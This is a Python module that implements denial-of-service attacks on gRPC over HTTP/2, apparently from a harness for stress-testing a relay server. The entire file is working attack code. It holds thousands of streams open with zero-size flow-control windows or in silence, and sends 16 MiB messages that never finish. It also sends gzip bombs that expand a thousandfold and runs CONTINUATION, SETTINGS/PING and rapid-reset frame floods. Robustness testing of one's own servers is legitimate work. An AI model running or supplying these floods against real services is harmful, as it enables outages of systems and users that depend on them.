"""Attacks on what gRPC speaks: streams, windows, frames. No secret is needed for any of them."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Callable

from hyperframe.frame import ContinuationFrame, PingFrame, SettingsFrame

from attacks.aim import Aim, Pace
from attacks.wire import Connection, block, data_frame, headers_frame, message, reset_frame

STREAMS = 3_000
MOST_ON_ONE = 100
"""streams of a connection; gRPC servers take 100 to 128"""
CONNECTIONS = 10
UNFINISHED = 50
MEBIBYTE = 1 << 20
_TICK_SECONDS = 0.05


async def closed_windows(aim: Aim) -> None:
    """3,000 streams, 100 on a connection, say hello and never let the relay write: flow-control windows of 0 bytes."""
    await _hold_streams(aim, {int(SettingsFrame.INITIAL_WINDOW_SIZE): 0}, says_hello=True)


async def idle_streams(aim: Aim) -> None:
    """3,000 streams that say nothing; one that the relay ends is opened again."""
    await _hold_streams(aim, {}, says_hello=False)


async def unfinished_messages(aim: Aim) -> None:
    """50 messages of 16 MiB whose last byte never comes."""
    size = 16 * MEBIBYTE - 64
    beginning = b"\0" + size.to_bytes(4, "big")
    piece = bytes(MEBIBYTE)

    async def visit(source: str) -> None:
        async with aim.opened(source) as connection:
            stream = connection.new_stream()
            await connection.pour(stream, beginning)
            for _ in range(size // MEBIBYTE):
                await connection.pour(stream, piece)
                aim.done["mebibytes"] += 1
            await connection.stream_ended(stream)

    await aim.keep(UNFINISHED, visit)


async def gzip_messages(aim: Aim) -> None:
    """Messages of 15 KiB that become 15 MiB when they are unpacked, 40 a second."""
    bomb = message(gzip.compress(bytes(15 * MEBIBYTE)), compressed=True)
    packed = block(("grpc-encoding", "gzip"))
    pace = Pace(40)

    async def visit(source: str) -> None:
        async with aim.opened(source) as connection:
            while not connection.closed.is_set():
                await pace.turn()
                stream = connection.new_stream(packed)
                await connection.pour(stream, bomb)
                aim.done["messages"] += 1
                await connection.stream_ended(stream)

    await aim.keep(CONNECTIONS, visit)


async def continuation_flood(aim: Aim) -> None:
    """Headers that never end: CONTINUATION frames, most of them empty, as many as the relay reads."""
    some = 500

    empty = ContinuationFrame(1, data=b"").serialize() * (some - 1)
    frames = empty + ContinuationFrame(1, data=block(("x-one-more", "header"))[-20:]).serialize()

    await _flood(aim, headers_frame(1, flags=()), lambda _: frames, some)


async def settings_and_ping_flood(aim: Aim) -> None:
    """SETTINGS and PING frames, each of which the relay must answer, as many as it reads."""
    some = 200
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * some
    pings = PingFrame(0, opaque_data=b"are you?").serialize() * some
    turns = [settings, pings]

    async def visit(source: str) -> None:
        turns.reverse()
        frames = turns[0]
        await _flood_once(aim, source, b"", lambda _: frames, some)

    await aim.keep(CONNECTIONS, visit)


async def rapid_reset(aim: Aim) -> None:
    """Streams that are opened and reset in the same breath, as many as the relay reads."""
    some = 50

    def flood(connection: Connection) -> bytes:
        streams = [connection.next_stream() for _ in range(some)]
        return b"".join(headers_frame(stream) + reset_frame(stream) for stream in streams)

    await _flood(aim, b"", flood, some)


async def _hold_streams(aim: Aim, settings: dict[int, int], *, says_hello: bool) -> None:
    """3,000 streams at a time, at most 100 on a connection."""
    connections = max(STREAMS // MOST_ON_ONE, len(aim.sources))
    most = STREAMS // connections

    async def visit(source: str) -> None:
        there = 0

        def one_less(_: int) -> None:
            nonlocal there
            there -= 1

        async with aim.opened(source, settings) as connection:
            connection.on_end = one_less
            while not connection.closed.is_set():
                while there < most:
                    there += 1
                    aim.done["streams"] += 1
                    stream = connection.next_stream()
                    hello = data_frame(stream, message(aim.hello())) if says_hello else b""
                    connection.write(headers_frame(stream) + hello)
                await connection.drain()
                await asyncio.sleep(_TICK_SECONDS)

    await aim.keep(connections, visit)


async def _flood(aim: Aim, first: bytes, flood: Callable[[Connection], bytes], some: int) -> None:
    async def visit(source: str) -> None:
        await _flood_once(aim, source, first, flood, some)

    await aim.keep(CONNECTIONS, visit)


async def _flood_once(aim: Aim, source: str, first: bytes, flood: Callable[[Connection], bytes], some: int) -> None:
    """On one connection, until the relay has enough of it; `flood` makes `some` frames."""
    async with aim.opened(source) as connection:
        connection.write(first)
        while not connection.closed.is_set():
            connection.write(flood(connection))
            aim.done["frames"] += some
            await connection.drain()
            await asyncio.sleep(0)
